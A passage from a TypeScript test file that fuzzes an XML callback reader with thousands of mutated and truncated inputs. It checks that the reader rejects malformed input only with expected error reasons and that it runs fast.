			else if (op === 2) chars[at] = pick(Array.from(noise));
			else chars.splice(at, 0, pick(pieces));
		}
		return chars.join('');
	}

	function generate(n: number): string {
		const kind = n % 5;
		if (kind === 0) {
			const sample = pick(SAMPLES);
			return sample.slice(0, int(sample.length + 1));
		}
		if (kind === 1 || kind === 2) return mutate(pick(SAMPLES));
		if (kind === 3) return Array.from({ length: 1 + int(60) }, () => pick(pieces)).join('');
		const a = pick(SAMPLES);
		const b = pick(SAMPLES);
		return a.slice(0, int(a.length)) + b.slice(int(b.length));
	}

	it('throws nothing but CallbackRejected for 5,000 random, truncated and mutated inputs, fast', () => {
		const reasons: Record<string, number> = {};
		const unexpected: string[] = [];
		let accepted = 0;
		const started = Date.now();
		for (let n = 0; n < 5_000; n++) {
			const input = generate(n);
			let result: unknown;
			let failure: unknown;
			try {
				result = readXml(input, { repeated: SYS_APPROVAL_CHANGE_REPEATED });
			} catch (error) {
				failure = error;
			}
			if (failure instanceof CallbackRejected) {
				reasons[failure.reason] = (reasons[failure.reason] ?? 0) + 1;
			} else if (failure !== undefined || typeof result !== 'object' || result === null) {
				unexpected.push(`input ${n} gave ${String(failure ?? result)}: ${JSON.stringify(input)}`);
			} else {
				JSON.stringify(result);
				accepted++;
			}
		}
		expect(unexpected).toEqual([]);
		expect(
			Object.keys(reasons).filter((reason) => reason !== 'format' && reason !== 'size'),
		).toEqual([]);
		expect(Date.now() - started).toBeLessThan(5_000);
		// The run exercises both outcomes: some inputs survive (e.g. whole samples), most do not.
		expect(accepted).toBeGreaterThan(0);
		expect(reasons.format).toBeGreaterThan(2_500);
	});

	it('reads every untouched sample (the fuzz corpus itself is valid)', () => {
		for (const sample of SAMPLES) expect(() => readXml(sample)).not.toThrow();
	});
});
